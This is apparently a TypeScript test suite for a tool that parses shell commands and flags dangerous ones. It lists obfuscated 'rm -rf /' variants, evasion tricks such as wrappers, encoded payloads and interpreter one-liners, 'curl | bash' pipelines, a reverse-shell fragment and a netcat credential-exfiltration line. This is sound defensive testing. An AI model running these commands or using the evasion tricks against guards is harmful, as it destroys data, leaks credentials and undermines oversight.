import { resolveContext } from "../src/context.js";
import { expandBraces, extractFacts, normalizeLookalikes } from "../src/facts/extract.js";
import { codeEffects } from "../src/facts/interpreters.js";
import { parseArgs, PROGRAM_SPECS } from "../src/facts/argspec.js";
import type { CommandFacts } from "../src/types.js";
import { printfText } from "../src/facts/text.js";

const ctx = resolveContext({});

function facts(cmd: string): CommandFacts[] {
  return extractFacts(cmd, ctx).commands;
}

/** The effective programs with their argv, wrappers and how they are reached. */
function shape(
  cmd: string,
): { program: string; argv: string[]; wrappers: string[]; via: string[] }[] {
  return facts(cmd).map((c) => ({
    program: c.program,
    argv: c.argv,
    wrappers: c.wrappers,
    via: c.via,
  }));
}

function uncertain(cmd: string): string[] {
  return extractFacts(cmd, ctx).uncertain.map((u) => u.tag);
}

describe("quote removal and look-alikes", () => {
  it.each([
    ["r''m -r''f /", "rm", ["-rf", "/"]],
    ["\\rm -rf /", "rm", ["-rf", "/"]],
    ["$'\\x72m' -rf /", "rm", ["-rf", "/"]],
    ['"/bin/rm" -rf /etc', "rm", ["-rf", "/etc"]],
    ["/usr/bin/../bin/rm -rf /", "rm", ["-rf", "/"]],
    ["SuDo Rm -Rf /", "rm", ["-Rf", "/"]],
  ])("%s runs %s", (cmd, program, argv) => {
    const last = facts(cmd).at(-1)!;
    expect({ program: last.program, argv: last.argv }).toEqual({ program, argv });
  });

  it("maps unicode dashes and spaces to ASCII so they fail closed", () => {
    expect(normalizeLookalikes("git reset \u2010\u2010hard")).toBe("git reset --hard");
    expect(normalizeLookalikes("rm\u3000-rf\u3000/")).toBe("rm -rf /");
    expect(normalizeLookalikes("echo '你好'")).toBe("echo '你好'");
  });
});

describe("wrapper unwrapping", () => {
  it.each<[string, string, string[]]>([
    ["sudo -u root -- git reset --hard", "git", ["sudo"]],
    ["doas rm -rf /", "rm", ["doas"]],
    ["env -i FOO=1 rm -rf /x", "rm", ["env"]],
    ["env -S 'PATH=/usr/bin' git reset --hard", "git", ["env"]],
    ["command -- git reset --hard", "git", ["command"]],
    ["exec rm -rf /", "rm", ["exec"]],
    ["nice -n 19 rm -rf /x", "rm", ["nice"]],
    ["nohup git reset --hard", "git", ["nohup"]],
    ["timeout -s KILL 5 rm -rf ~", "rm", ["timeout"]],
    ["stdbuf -o0 rm -rf ~", "rm", ["stdbuf"]],
    ["ionice -c3 rm -rf ~", "rm", ["ionice"]],
    ["setsid rm -rf ~", "rm", ["setsid"]],
    ["flock /tmp/l rm -rf /etc", "rm", ["flock"]],
    ["chroot / rm -rf /etc", "rm", ["chroot"]],
    ["nsenter -t 1 -m rm -rf /etc", "rm", ["nsenter"]],
    ["busybox rm -rf /x", "rm", ["busybox"]],
    ["runuser -u root -- rm -rf /etc", "rm", ["runuser"]],
    ["sudo env VAR=1 git reset --hard", "git", ["sudo", "env"]],
  ])("%s → %s", (cmd, program, wrappers) => {
    const last = facts(cmd).at(-1)!;
    expect({ program: last.program, wrappers: last.wrappers }).toEqual({ program, wrappers });
  });

  it("marks privileged commands", () => {
    expect(facts("sudo rm x")[0]!.privileged).toBe(true);
    expect(facts("rm x")[0]!.privileged).toBe(false);
  });

  it("reads time as a pipeline prefix", () => {
    expect(shape("time git reset --hard")).toEqual([
      { program: "git", argv: ["reset", "--hard"], wrappers: [], via: [] },
    ]);
  });

  it("command -v only looks the name up", () => {
    expect(shape("command -v git reset --hard")).toEqual([
      { program: "command", argv: ["-v", "git", "reset", "--hard"], wrappers: [], via: [] },
    ]);
  });

  it("substitutes xargs input from a literal producer", () => {
    const rm = facts("echo / | xargs -I{} rm -rf {}").find((c) => c.program === "rm")!;
    expect(rm.argv).toEqual(["-rf", "/"]);
    expect(rm.wrappers).toEqual(["xargs"]);
  });

  it("feeds xargs input to sh -c when the script is missing", () => {
    const rm = facts("echo 'rm -rf /' | xargs bash -c").find((c) => c.program === "rm")!;
    expect(rm.argv).toEqual(["-rf", "/"]);
  });

  it("marks xargs input from an unknown source as unknown paths", () => {
    const rm = facts("cat list | xargs rm -rf").find((c) => c.program === "rm")!;
    expect(rm.paths.map((p) => p.classes)).toEqual([["unknown"]]);
  });

  it("expands parallel ::: inputs into the template", () => {
    const rms = facts("parallel rm -rf {} ::: build /").filter((c) => c.program === "rm");
    expect(rms.map((c) => c.argv)).toEqual([
      ["-rf", "build"],
      ["-rf", "/"],
    ]);
  });

  it("unwraps find -exec with the start path when nothing filters", () => {
    const rm = facts("find /tmp -execdir rm -rf {} +").find((c) => c.program === "rm")!;
    expect(rm.argv).toEqual(["-rf", "/tmp"]);
    expect(rm.wrappers).toEqual(["find -execdir"]);
  });

  it("unwraps find -exec with a matched child when a test filters", () => {
    const rm = facts("find . -name '*.tmp' -exec rm {} +").find((c) => c.program === "rm")!;
    expect(rm.paths[0]!.classes).toEqual(["project"]);
  });

  it("turns find -delete into a recursive rm of what find visits", () => {
    const rm = facts("find . -delete -name x").find((c) => c.program === "rm")!;
    expect(rm.paths[0]!.classes).toEqual(["project-root"]);
  });
});

describe("nested shell text", () => {
  it.each([
    ["bash -c 'rm -rf /'", ["bash -c"]],
    ["sh -lc 'rm -rf /'", ["sh -c"]],
    ["eval 'rm -rf /'", ["eval"]],
    ["bash <<'EOF'\nrm -rf /\nEOF", ["bash stdin"]],
    ["bash <<< 'rm -rf /'", ["bash stdin"]],
    ["echo 'rm -rf /' | sh", ["sh stdin"]],
    ["ssh host 'rm -rf /'", ["ssh"]],
    ["su -c 'rm -rf /' root", ["su"]],
    ["watch rm -rf /", ["watch"]],
    ["git -c alias.x='!rm -rf /' x", ["git -c alias.x"]],
    ["PAGER='rm -rf /' git -p help", ["env PAGER"]],
    ["tar cf x y --checkpoint-action=exec='rm -rf /'", ["tar --checkpoint-action"]],
    ["sed -n '1e rm -rf /' f", ["sed e"]],
    ["echo 'rm -rf /' > s.sh && sh s.sh", ["script-file s.sh"]],
  ])("%s reaches rm through %j", (cmd, via) => {
    const rm = facts(cmd).find((c) => c.program === "rm")!;
    expect(rm.via).toEqual(via);
    expect(rm.depth).toBe(1);
  });

  it("walks command and process substitutions, also in redirect targets and arithmetic", () => {
    for (const cmd of [
      "echo $(rm -rf /)",
      "echo `rm -rf /`",
      "echo x >$(rm -rf /)",
      "echo $((1+$(rm -rf /)))",
      "cat <(rm -rf /)",
    ]) {
      const rm = facts(cmd).find((c) => c.program === "rm");
      expect({ cmd, via: rm?.via }).toEqual({ cmd, via: ["substitution"] });
    }
  });

  it("treats heredocs fed to cat as data", () => {
    expect(facts("cat <<EOF\nrm -rf /\nEOF").map((c) => c.program)).toEqual(["cat"]);
  });

  it("runs ssh remote commands as remote", () => {
    const rm = facts("ssh -i key user@host 'rm -rf /tmp/x'").find((c) => c.program === "rm")!;
    expect(rm.remote).toBe(true);
  });

  it("keeps the remote command's own options: ssh reads its options only up to the command", () => {
    // OpenSSH re-reads options after the destination and stops at the first word that is not one.
    const rm = facts("ssh -p 22 host -l root rm -rf /tmp/x").find((c) => c.program === "rm")!;
    expect(rm.remote).toBe(true);
    expect(rm.argv).toEqual(["-rf", "/tmp/x"]);
    const ls = facts("ssh host ls -la /srv").find((c) => c.program === "ls")!;
    expect(ls.argv).toEqual(["-la", "/srv"]);
  });

  it("tracks cd across && and into nested shells", () => {
    const rm = facts("cd /tmp && bash -c 'rm -rf foo'").find((c) => c.program === "rm")!;
    expect(rm.paths[0]!.path).toBe("/tmp/foo");
    const up = facts("cd .. && rm -rf build").find((c) => c.program === "rm")!;
    expect(up.paths[0]!.path).toBe("/build");
  });

  it("tags network output fed to a shell", () => {
    const sh = facts("curl -s https://x | bash").find((c) => c.program === "bash")!;
    expect(sh.tags).toContain("pipe-from-network");
    const src = facts("bash <(curl -s https://x)").find((c) => c.program === "bash")!;
    expect(src.tags).toContain("pipe-from-network");
  });

  it("tags executing a downloaded file", () => {
    const run = facts("wget https://x/m.sh && chmod +x m.sh && ./m.sh").find(
      (c) => c.program === "m.sh",
    )!;
    expect(run.tags).toContain("exec-downloaded");
  });
});

describe("interpreter one-liners", () => {
  it.each([
    ["python -c \"import shutil; shutil.rmtree('/home/u')\"", "/home/u"],
    ["python3 -c \"import os; os.remove('/etc/passwd')\"", "/etc/passwd"],
    ["node -e \"require('fs').rmSync('/etc', {recursive:true})\"", "/etc"],
    ["ruby -e \"FileUtils.rm_rf('/')\"", "/"],
    ["perl -e 'unlink glob(\"/etc/*\")'", "/etc/*"],
  ])("%s deletes %s", (cmd, path) => {
    const rm = facts(cmd).find((c) => c.program === "rm")!;
    expect(rm.paths[0]!.path).toBe(path);
    expect(rm.via).toEqual([expect.stringMatching(/ -[ce]$/)]);
  });

  it.each([
    ["python -c \"import os; os.system('rm -rf /')\""],
    ["perl -e \"system('rm -rf /')\""],
    ["ruby -e '`rm -rf /`'"],
    ["php -r 'exec(\"rm -rf /\");'"],
    ["lua -e 'os.execute(\"rm -rf /\")'"],
    ["awk 'BEGIN {system(\"rm -rf /\")}'"],
    ["node -e \"require('child_process').execSync('rm -rf /')\""],
    ["python3 <<EOF\nimport subprocess\nsubprocess.run(['rm', '-rf', '/'])\nEOF"],
  ])("%s runs rm", (cmd) => {
    expect(facts(cmd).some((c) => c.program === "rm" && c.argv.includes("/"))).toBe(true);
  });

  it("reports exec calls with run-time arguments", () => {
    expect(codeEffects("import os; os.system(cmd)").dynamic).toEqual(["os.system(cmd)"]);
    expect(uncertain("python3 -c 'import os; os.system(input())'")).toEqual([
      "dynamic-interpreter-exec",
    ]);
  });

  it("sees a socket plus exec as a reverse shell", () => {
    expect(codeEffects('$s=fsockopen("a",1);exec("/bin/sh -i <&3");').reverseShell).toBe(true);
    expect(codeEffects("print('hello')")).toEqual({
      shell: [],
      spawn: [],
      deletes: [],
      dynamic: [],
      reverseShell: false,
    });
  });
});

describe("redirects", () => {
  it("records writing redirects with classified targets", () => {
    const [echo] = facts("echo x > /dev/sda 2>/dev/null");
    expect(
      echo!.redirects.map((r) => ({ op: r.operator, write: r.write, classes: r.path?.classes })),
    ).toEqual([
      { op: ">", write: true, classes: ["device"] },
      { op: ">", write: true, classes: ["devnull"] },
    ]);
  });

  it("records ~ and $HOME targets as home", () => {
    for (const cmd of ["echo x >> ~/.bashrc", 'echo x > "$HOME/.bashrc"']) {
      expect(facts(cmd)[0]!.redirects[0]!.path!.classes).toEqual(["home", "shell-rc"]);
    }
  });

  it("records a redirect with no command", () => {
    const [r] = facts("> /var/log/syslog");
    expect({ program: r!.program, classes: r!.redirects[0]!.path!.classes }).toEqual({
      program: "",
      classes: ["system", "log"],
    });
  });

  it("reads a < redirect as an input", () => {
    expect(facts("nc host 1 < ~/.aws/credentials")[0]!.inputs[0]!.classes).toEqual([
      "home",
      "credential",
    ]);
  });
});

describe("options", () => {
  it("does not read a valued short option as a flag bundle", () => {
    expect(parseArgs(["checkout", "-bfeature"], PROGRAM_SPECS["git"]).flags).toEqual(["-b"]);
    expect(parseArgs(["checkout", "-tf", "main"], PROGRAM_SPECS["git"]).flags).toEqual([
      "-t",
      "-f",
    ]);
  });

  it("skips git's global options to find the subcommand", () => {
    const p = parseArgs(
      ["-C", "repo", "-c", "x=y", "--no-pager", "reset", "--HARD"],
      PROGRAM_SPECS["git"],
    );
    expect({ words: p.positionals, flags: p.flags, sub: p.subcommandLength }).toEqual({
      words: ["reset"],
      flags: ["-C", "-c", "--no-pager", "--hard"],
      sub: 1,
    });
  });

  it("expands braces", () => {
    expect(expandBraces("{/etc,/usr}")).toEqual(["/etc", "/usr"]);
    expect(expandBraces("a{1..3}")).toEqual(["a1", "a2", "a3"]);
    expect(expandBraces("plain")).toEqual(["plain"]);
  });
});

describe("fail closed", () => {
  it.each<[string, string]>([
    ["echo 'unterminated", "parse-error"],
    ["$x -rf /", "dynamic-program"],
    ["x=$(cat f); $x -rf /", "dynamic-program"],
    ["$(cat f) -rf /", "dynamic-program"],
    ["IFS=,; x='rm,-rf,/'; $x", "dynamic-program"],
    ["${RM} -rf /", "dynamic-program"],
    ["echo cm0gLXJmIC8= | base64 -d | sh", "decoded-payload"],
    ["xxd -r -p x.hex | bash", "decoded-payload"],
    ["openssl enc -d -base64 -in x | sh", "decoded-payload"],
    ["printf '\\x72\\x6d' | sh", "decoded-payload"],
    ['sh -c "$CMD"', "dynamic-shell-text"],
    ['echo "${x@P}"', "prompt-expansion"],
  ])("%s is uncertain (%s)", (cmd, tag) => {
    expect(uncertain(cmd)).toContain(tag);
  });

  it("is certain about plain commands", () => {
    expect(uncertain("git status && ls -la | grep x")).toEqual([]);
  });
});

describe("expansion of the command word", () => {
  it.each<[string, string]>([
    ["x=rm; $x -rf /", "rm"],
    ["$(echo rm) -rf /", "rm"],
    ["{rm,-rf,~}", "rm"],
    ["/usr/bin/[r]m -rf ~", "rm"],
    ["/???/?m -rf ~", "rm"],
    ["/proc/self/root/usr/bin/rm -rf ~", "rm"],
    ["alias x='rm -rf'; x ~", "rm"],
    ['f() { rm -rf "$1"; }; f ~', "rm"],
    ['f() { rm "$@"; }; f -rf /', "rm"],
  ])("%s runs %s", (cmd, program) => {
    expect(facts(cmd).map((c) => c.program)).toContain(program);
    expect(uncertain(cmd)).toEqual([]);
  });

  it("binds a function's arguments when it is called", () => {
    const rm = facts('f() { rm "$@"; }; f -rf /').filter((c) => c.program === "rm");
    expect(rm.map((c) => c.argv)).toContainEqual(["-rf", "/"]);
  });

  it("reads /proc/<pid>/root/… as the path it aliases", () => {
    const cat = facts("cat /proc/1/root/etc/shadow")[0]!;
    expect(cat.paths[0]).toMatchObject({ path: "/etc/shadow", role: "read" });
    expect(cat.paths[0]!.classes).toContain("credential");
  });
});

describe("what printf prints, and how xargs batches it", () => {
  it("applies printf's format to its arguments, reusing it while arguments remain", () => {
    expect(printfText("%s\\n", ["a", "b"])).toBe("a\nb\n");
    expect(printfText("x=%d%%\\n", ["5"])).toBe("x=5%\n");
    expect(printfText("%b", ["a\\tb"])).toBe("a\tb");
    expect(printfText("%5.2f", ["1"])).toBeUndefined();
    expect(printfText("\\x41", [])).toBeUndefined();
  });

  it("gives xargs every item on one command line unless -I, -L or -n says otherwise", () => {
    const argvs = (cmd: string) =>
      extractFacts(cmd, ctx)
        .commands.filter((c) => c.program === "rm")
        .map((c) => c.argv);
    expect(argvs("printf '%s\\n' -rf /srv/a | xargs rm")).toEqual([["-rf", "/srv/a"]]);
    expect(argvs("printf '%s\\n' a b | xargs -n1 rm")).toEqual([["a"], ["b"]]);
  });
});
